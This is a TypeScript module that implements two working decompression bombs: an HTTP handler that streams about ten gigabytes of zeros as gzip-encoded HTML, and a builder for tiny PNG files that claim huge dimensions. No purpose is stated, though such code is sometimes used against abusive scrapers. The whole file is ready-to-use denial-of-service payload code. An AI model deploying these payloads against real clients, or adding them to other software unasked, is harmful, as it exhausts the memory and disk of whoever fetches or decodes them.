import { crc32, deflateSync, gzipSync } from 'node:zlib'
import type { RequestListener } from 'node:http'

const packed = gzipSync(Buffer.alloc(100_000_000))

/** Ten gigabytes of zeros, compressed: a hundred gzip members in sequence. */
export const gzipBomb: RequestListener = (_, reply) => {
  reply.writeHead(200, { 'content-encoding': 'gzip', 'content-type': 'text/html' })
  let left = 100
  const more = (): void => {
    while (left > 0) {
      left -= 1
      if (!reply.write(packed)) return void reply.once('drain', more)
    }
    reply.end()
  }
  more()
}

/** A PNG of black pixels: a few kilobytes at any dimensions. */
export function buildBlackPng(width: number, height: number): Buffer {
  const head = Buffer.alloc(13)
  head.writeUInt32BE(width, 0)
  head.writeUInt32BE(height, 4)
  // One bit per pixel, in shades of gray.
  head[8] = 1
  const rows = deflateSync(Buffer.alloc(height * (1 + Math.ceil(width / 8))))
  const signature = Buffer.from('89504e470d0a1a0a', 'hex')
  return Buffer.concat([signature, chunk('IHDR', head), chunk('IDAT', rows), chunk('IEND', Buffer.alloc(0))])
}

function chunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data])
  const length = Buffer.alloc(4)
  length.writeUInt32BE(data.length)
  const sum = Buffer.alloc(4)
  sum.writeUInt32BE(crc32(body))
  return Buffer.concat([length, body, sum])
}
